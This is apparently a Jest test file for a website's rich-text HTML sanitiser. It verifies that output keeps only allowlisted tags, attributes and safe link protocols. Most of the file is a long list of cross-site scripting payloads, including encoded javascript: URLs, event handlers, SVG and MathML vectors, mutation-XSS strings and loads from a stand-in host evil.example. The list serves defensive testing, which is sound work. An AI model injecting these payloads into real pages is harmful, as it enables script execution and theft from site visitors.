import { describe, expect, it } from '@jest/globals';
import { DomUtils, parseDocument } from 'htmlparser2';
import { richText, type TextSurroundings } from '../../../../eleventy/richText/richText.ts';

const surroundings: TextSurroundings = {
  language: 'de',
  localised: (path) => path,
  newTabHint: '(öffnet in neuem Tab)',
  siteOrigin: 'https://verband.example',
  image: (address) =>
    address.startsWith('/images/') ? { src: address, width: 4, height: 3, sources: [] } : undefined,
};

const htmlOf = (source: string): string => richText(source, surroundings).html;

/** All allowed elements and attributes. Any other one in the result is a vulnerability. */
const elements = new Set(
  (
    'h2 h3 h4 p div section br wbr hr ul ol li dl dt dd blockquote pre figure figcaption img picture source a ' +
    'strong em b i small sub sup s del ins mark q cite abbr dfn code kbd time span ' +
    'table caption thead tbody tfoot tr th td'
  ).split(' '),
);
const attributes = new Set(
  (
    'lang id href hreflang target rel class title src alt width height loading decoding ' +
    'start reversed scope colspan rowspan datetime tabindex aria-label'
  ).split(' '),
);

function holesIn(html: string): string[] {
  return DomUtils.getElementsByTagName(() => true, parseDocument(html)).flatMap(
    ({ name, attribs }) => [
      ...(elements.has(name) ? [] : [`<${name}>`]),
      ...Object.entries(attribs)
        .filter(([key, value]) => !attributes.has(key) || isUnsafe(key, value))
        .map(([key, value]) => `<${name} ${key}="${value}">`),
    ],
  );
}

function isUnsafe(key: string, value: string): boolean {
  if (key === 'href') return !['https:', 'mailto:', 'tel:'].includes(protocolOf(value));
  if (key === 'src') return !value.startsWith('/images/');
  if (key === 'class')
    return !['new-tab', 'to-mail', 'to-phone', 'visually-hidden', 'table-scroll'].includes(value);
  return false;
}

/** The protocol as a browser sees it, after stripping and decoding. */
function protocolOf(href: string): string {
  return new URL(href, 'https://verband.example').protocol;
}

describe('leaves nothing that runs, loads or disguises', () => {
  it.each([
    // Scripts and handlers
    '<script>alert(1)</script>',
    '<p>a<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script/xss src="data:,alert(1)"></script >',
    '<<script>alert(1);//<</script>',
    '<p onclick=alert(1) ONMOUSEOVER="alert(1)" on\u0000error=alert(1)>a</p>',
    '<img src=x onerror=alert(1)>',
    '<img src="/images/a.jpg" onload="alert(1)" style="x" srcset="//evil.example/a.png 2x">',
    '<img """><script>alert(1)</script>">',
    '<p/onmouseover=alert(1)>a',
    '<a href="/a"onclick="alert(1)">a</a>',
    '<details open ontoggle=alert(1)><summary>a</summary></details>',
    '<body onload=alert(1)><input autofocus onfocus=alert(1)>',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    '<p lang="de" lang="x&quot; onclick=alert(1)">a</p>',
    // Addresses
    '<a href="javascript:alert(1)">a</a>',
    '<a href="&#106;avascript&colon;alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java&Tab;script&NewLine;:alert(1)">a</a>',
    '<a href="\u0001javascript:alert(1)">a</a>',
    '<a href="&#1;java&#13;script:alert(1)">a</a>',
    '<a href="\u00a0javascript:alert(1)">a</a>',
    '<a href="\ufeffjavascript:alert(1)">a</a>',
    '<a href="jAvAsCrIpT&#x3A;alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href=" data:text/html;base64,PHNjcmlwdD4=">a</a>',
    '<a href="view-source:javascript:alert(1)">a</a>',
    '<a href="blob:https://verband.example/1">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="feed:javascript:alert(1)">a</a>',
    '<a href="https://verband.example/%0ajavascript:alert(1)" xlink:href="javascript:alert(1)">a</a>',
    '<a href="/a" target="_top" rel="opener" ping="//evil.example" download>a</a>',
    '<base href="//evil.example/"><a href="a">a</a>',
    '[a](javascript:alert(1))',
    '[a](JaVaScript&colon;alert(1))',
    '[a](<java\tscript:alert(1)>)',
    '![a](javascript:alert(1))',
    '<javascript:alert(1)>',
    '[a]: javascript:alert(1)\n\n[a]',
    '[a](https://a.example "x\\" onclick=alert(1)")',
    // Foreign content, frames, forms, style
    '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">a</a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<math href="javascript:alert(1)"><maction actiontype="statusline#javascript:alert(1)">a</maction></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><frame src=x><frameset onload=alert(1)>',
    '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object><applet code=x>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">a</button></form>',
    '<style>@import "//evil.example/x.css"; p { background: url(//evil.example) }</style>',
    '<p style="background:url(javascript:alert(1));position:fixed" class="new-tab" id="menu">a</p>',
    '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<table background="javascript:alert(1)"><td background="//evil.example/x">a</td></table>',
    '<template><script>alert(1)</script></template><slot name=x><custom-element is=x>a</custom-element>',
    '<div popover id=x contenteditable draggable=true data-menu data-island="X">a</div>',
    '<p role="alert" aria-hidden="true" tabindex="5" accesskey="x" itemscope>a</p>',
    // Unclosed and broken
    '<p>a<b>b<a href="/c">d<table><tr><td>e',
    '<a href="/a',
    '<p title="<img src=x onerror=alert(1)>">a',
    '<!--<p>--><img src=x onerror=alert(1)>-->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--!><script>alert(1)</script>--!>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '</p></p></br><p',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    // Mutation XSS: becomes active when a browser parses a sanitiser's output again
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><p><style></annotation-xml><img src onerror=alert(1)>',
    '<svg><desc><template><textarea><img title="</textarea><img src onerror=alert(1)>"></template></desc></svg>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<option>&lt;img src=x onerror=alert(1)&gt;</option>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<p title="`><img src=x onerror=alert(1)>`">a</p>',
    '<a title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" href="/a&quot;onclick=alert(1)">a</a>',
    '<h2 id="x&quot; onclick=&quot;alert(1)">a</h2>',
    '<table><caption>"><img src=x onerror=alert(1)></caption><tr><td>a</table>',
    '<img src="/images/a.jpg" alt="&quot; onerror=&quot;alert(1)">',
    'a <img title="x" alt="</p><script>alert(1)</script>" src="/images/a.jpg"> *b*',
  ])('%s', (source) => {
    expect(holesIn(htmlOf(source))).toEqual([]);
  });
});

it('comes out the same when it goes in again', () => {
  const once = htmlOf('<h2>A</h2><p>b &lt;b&gt; &amp;amp; <a href="/c?d=1&amp;e=2">f</a></p>');
  expect(htmlOf(once)).toBe(once);
});

it('keeps the language of words, and only if it is one', () => {
  expect(htmlOf('<p lang="en-GB">a <i lang="fr">b</i> <i lang="<x>">c</i></p>')).toBe(
    '<p lang="en-GB">a <i lang="fr">b</i> <i>c</i></p>',
  );
});

it('takes links to its own site for links inside it', () => {
  expect(htmlOf('<a href="https://verband.example/kontakt#form">a</a>')).toBe(
    '<a href="/kontakt#form">a</a>',
  );
});

it('asks for embedded contents with safe addresses only, and names that disguise nothing', () => {
  const asked: string[] = [];
  const embed: TextSurroundings['embed'] = ({ src }) => {
    asked.push(src);
    return '<p>asked</p>';
  };
  const sources = [
    '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://ok.example/" onload="alert(1)" allow="camera" name="x">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="java&Tab;script:alert(1)"><video src=x onerror=alert(1)></video>',
    '<iframe src="/\\ok.example/a" title="</p><script>alert(1)</script>"></iframe>',
    '<object data="https://ok.example/b"><iframe src="https://inner.example"></iframe></object>',
  ];
  for (const source of sources) {
    expect(holesIn(richText(source, { ...surroundings, embed }).html)).toEqual([]);
  }
  expect(asked).toEqual(['https://ok.example/', 'https://ok.example/a', 'https://ok.example/b']);
});
